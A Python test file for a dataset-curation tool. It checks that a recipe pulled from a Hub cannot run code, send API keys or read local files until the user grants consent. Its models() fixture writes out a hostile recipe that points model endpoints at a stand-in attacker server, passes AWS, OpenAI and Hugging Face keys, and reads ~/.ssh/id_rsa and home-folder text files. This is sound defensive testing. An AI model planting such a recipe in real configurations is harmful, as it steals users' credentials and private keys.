"""A pulled run is hostile: its recipe runs nothing, sends no key and reads no file, from any command, until --trust."""

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from curate.errors import InputError
from curate.recipe.load import load_recipe
from curate.rundir.result import open_run
from tests import forked
from tests.attacks.harness import contents
from tests.chat_server import ChatServer, chat_server
from tests.data import row
from tests.hub_server import HubServer, read
from tests.publish.user import LICENSED, SMALL, User, environment, make_run
from tests.train.tiny import TEMPLATE, tiny_model

pytestmark = pytest.mark.slow
RECIPE = "prefcurate/default/recipe.yaml"
KEYS = ("AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "HF_TOKEN")
PLANTED = "planted-secret"  # in every key and file that an attack targets


@pytest.fixture(scope="module")
def evil() -> Iterator[ChatServer]:
    with chat_server(lambda *_: "Yes, indeed, it is.") as server:
        yield server


class Victim:
    """A user with secrets, and a run pulled from someone who changed its recipe on the Hub."""

    def __init__(self, folder: Path, tree: dict[str, Any], preload: str = "") -> None:
        self.folder, self.preload = folder, preload
        (folder / ".ssh").mkdir()
        (folder / ".ssh" / "id_rsa").write_text(f"{PLANTED} rubric\n")
        (folder / "notes.txt").write_text(f"{PLANTED} document\n" * 20)
        run = make_run(folder / "theirs", range(30))
        with HubServer() as hub, User(hub.url, folder / "home") as user:
            user.push(run, "me/set")
            commit = hub.repos["me/set"].at("main")
            assert commit is not None
            published = yaml.safe_load(read(commit.files[RECIPE]))
            changed = yaml.safe_dump(published | {"origin": None} | tree).encode()
            hub.commit("me/set", {**commit.files, RECIPE: changed})
            assert "error" not in user.pull("me/set", folder / "RUN")

    def __call__(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        keys = {name: f"{PLANTED}-{name}" for name in KEYS}
        env = {**os.environ, **keys, "HOME": str(self.folder), "XDG_CONFIG_HOME": str(self.folder / "config")}
        env.pop("OPENAI_BASE_URL", None)
        return forked.curate(*arguments, folder=self.folder, env=env, preload=self.preload)

    def refused(self, *arguments: str) -> str:
        done = self(*arguments)
        assert done.returncode == 2, done.stderr
        assert len(done.stderr.splitlines()) == 1
        assert "this recipe came from me/set on the Hub and would" in done.stderr
        assert "--trust" in done.stderr
        return done.stderr


def models(url: str) -> dict[str, Any]:
    """Return sections that send three keys and two files to the attacker's server."""
    return {
        "source": {"paths": ["theirs/p.jsonl"]},
        "prompts": {"method": "documents", "model": f"openai:d@{url}", "documents": ["~/*.txt"], "n": 4},
        "generate": {
            "models": [
                {"model": "openai:a", "base_url": url, "api_key_env": "AWS_SECRET_ACCESS_KEY"},
                {"model": "openai:b", "base_url": url, "api_key_env": "OPENAI_API_KEY"},
                {"model": "inference:c", "base_url": url, "api_key_env": "HF_TOKEN"},
            ]
        },
        "judge": {"models": [f"openai:j@{url}"], "rubric": ".ssh/id_rsa"},
    }


def test_keys_and_files_are_not_sent(tmp_path: Path, evil: ChatServer) -> None:
    victim = Victim(tmp_path, models(evil.url), preload=forked.TRAINING)
    evil.forget()
    (tmp_path / "copied.yaml").write_bytes((tmp_path / "RUN" / "recipe.yaml").read_bytes())
    (tmp_path / "bake.yaml").write_text("arms: {a: {recipe: copied.yaml}}\ntrain: {model: ./none}\n")
    (tmp_path / "script.py").write_text("import curate\ncurate.run('copied.yaml', out='OUT')\n")
    for recipe in ("RUN/recipe.yaml", "copied.yaml"):
        for command in (["run"], ["generate"], ["judge"], ["run", "--dry-run"], ["generate", "--dry-run"]):
            said = victim.refused(command[0], recipe, "-o", "OUT", *command[1:])
            for hint in (evil.url, *KEYS, "~/*.txt"):
                assert hint in said
            if command[0] != "generate":
                assert ".ssh/id_rsa" in said
    victim.refused("bakeoff", "bake.yaml", "-o", "BAKE")
    script = subprocess.run([sys.executable, "script.py"], capture_output=True, text=True, cwd=tmp_path)
    assert "ConsentNeeded: this recipe came from me/set" in script.stderr
    assert evil.asked == []
    assert not (tmp_path / "OUT").exists()
    assert PLANTED not in str(evil.authorized)
    # Commands that need no consent work as before.
    assert victim("why", "RUN", "3").returncode == 0
    exported = victim("export", "RUN", "copy")
    assert exported.returncode == 0, exported.stderr
    assert PLANTED not in (tmp_path / "copy" / "prefcurate" / "default" / "recipe.yaml").read_text()


def test_consent_is_asked_once_and_remembered(tmp_path: Path, evil: ChatServer) -> None:
    tree = models(evil.url)
    del tree["prompts"], tree["generate"]
    tree["judge"] = {"models": [{"model": "openai:j", "base_url": evil.url, "api_key_env": "OPENAI_API_KEY"}]}
    victim = Victim(tmp_path, tree, preload=forked.ASKING)
    evil.forget()
    line = ("judge", "RUN/recipe.yaml", "-o", "OUT")
    no_terminal = victim(*line, "--trust")
    assert no_terminal.returncode == 2
    assert "add --yes" in no_terminal.stderr
    assert f"send prompts to {evil.url} with the key in OPENAI_API_KEY for the model openai:j" in no_terminal.stderr
    assert victim(*line, "--yes").returncode == 2
    assert evil.asked == []
    agreed = victim(*line, "--trust", "--yes")
    assert "This recipe came from me/set on the Hub" in agreed.stderr
    assert evil.asked
    assert evil.authorized[0] == f"Bearer {PLANTED}-OPENAI_API_KEY"
    again = victim("judge", "RUN/recipe.yaml", "-o", "OUT2")
    assert "came from" not in again.stderr
    text = (tmp_path / "RUN" / "recipe.yaml").read_text().replace("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY")
    (tmp_path / "RUN" / "recipe.yaml").write_text(text)
    victim.refused("judge", "RUN/recipe.yaml", "-o", "OUT3")


def test_training_runs_no_code(tmp_path: Path) -> None:
    model = tiny_model(tmp_path / "model")
    (tmp_path / "model" / "code.py").write_text(f"open({str(tmp_path / 'executed')!r}, 'w')\n")
    trl = {"model_init_kwargs": {"attn_implementation": "eager"}}
    victim = Victim(tmp_path, {"train": {"model": str(model), "trl": trl}}, preload=forked.TRAINING)
    for line in (["train", "RUN"], ["preflight", "RUN"], ["train", "RUN", "--model", "./mine"]):
        said = victim.refused(*line)
        assert (
            'set the option model_init_kwargs to {"attn_implementation": "eager"} (train.trl.model_init_kwargs)' in said
        )
    assert not (tmp_path / "RUN" / "training").exists()
    own = victim("preflight", "RUN", "--model", str(model), "--set", "trl.model_init_kwargs={}")
    assert own.returncode in {0, 1}, own.stderr  # now all that it uses is the user's own


def test_trust_remote_code_is_refused_while_pulling(tmp_path: Path) -> None:
    run = make_run(tmp_path / "theirs", range(30))
    with HubServer() as hub, User(hub.url, tmp_path / "home") as user:
        user.push(run, "me/set")
        commit = hub.repos["me/set"].at("main")
        assert commit is not None
        published = yaml.safe_load(read(commit.files[RECIPE]))
        train = {"model": "them/model", "trl": {"trust_remote_code": True}}
        hub.commit("me/set", {**commit.files, RECIPE: yaml.safe_dump(published | {"train": train}).encode()})
        answer = user.pull("me/set", tmp_path / "RUN")
        assert "trust_remote_code cannot be set in a recipe" in answer["text"]
        assert not (tmp_path / "RUN").exists()


def test_the_origin_is_in_the_recipe_and_cannot_be_removed(tmp_path: Path) -> None:
    Victim(tmp_path, {"origin": {"repo": "me/mine", "revision": "x"}})
    origin = load_recipe(tmp_path / "RUN" / "recipe.yaml").origin
    assert origin is not None
    assert (origin.repo, origin.config, len(origin.revision)) == ("me/set", "default", 40)
    recipe = tmp_path / "RUN" / "recipe.yaml"
    tree = yaml.safe_load(recipe.read_text())
    del tree["origin"]
    recipe.write_text(yaml.safe_dump(tree))
    with pytest.raises(InputError, match=r"recipe.yaml was edited after the run"):
        _ = open_run(tmp_path / "RUN").recipe


def test_a_pulled_run_is_repeated_by_one_command(tmp_path: Path) -> None:
    """Its source is on the Hub, and the template that its recipe names came with it."""
    raw = "\n".join(json.dumps(row(number)) for number in range(40)).encode()
    (tmp_path / "mine.jinja").write_text(TEMPLATE)
    model = tiny_model(tmp_path / "model")
    with HubServer({"me/raw": {"pairs.jsonl": raw}}) as hub:

        def command(*arguments: str, folder: Path = tmp_path, preload: str = "") -> subprocess.CompletedProcess[str]:
            env = environment(hub.url, tmp_path / "home") | {"XDG_CONFIG_HOME": str(tmp_path / "config")}
            done = forked.curate(*arguments, folder=folder, env=env, preload=preload)
            assert done.returncode == 0, done.stderr
            return done

        own = ("--set", "train.chat_template=mine.jinja", *(f"--set={text}" for text in (*SMALL, *LICENSED)))
        command("clean", "me/raw", "-o", "RUN", *own)
        command("push", "RUN", "me/set")
        command("pull", "me/set", "-o", "AGAIN")
        (tmp_path / "elsewhere").mkdir()
        again = command("run", "../AGAIN/recipe.yaml", "-o", "RUN", "--trust", "--yes", folder=tmp_path / "elsewhere")
        assert "read me/raw  (source.paths)" in again.stderr
        line = ("preflight", "../AGAIN", "--model", model)  # of the same recipe: no question
        command(*line, folder=tmp_path / "elsewhere", preload=forked.TRAINING)
    first, second = (contents(folder / "RUN" / "data") for folder in (tmp_path, tmp_path / "elsewhere"))
    assert first == second
    kept = tmp_path / "elsewhere" / "RUN" / "files" / "train" / "mine.jinja"
    assert kept.read_text() == TEMPLATE
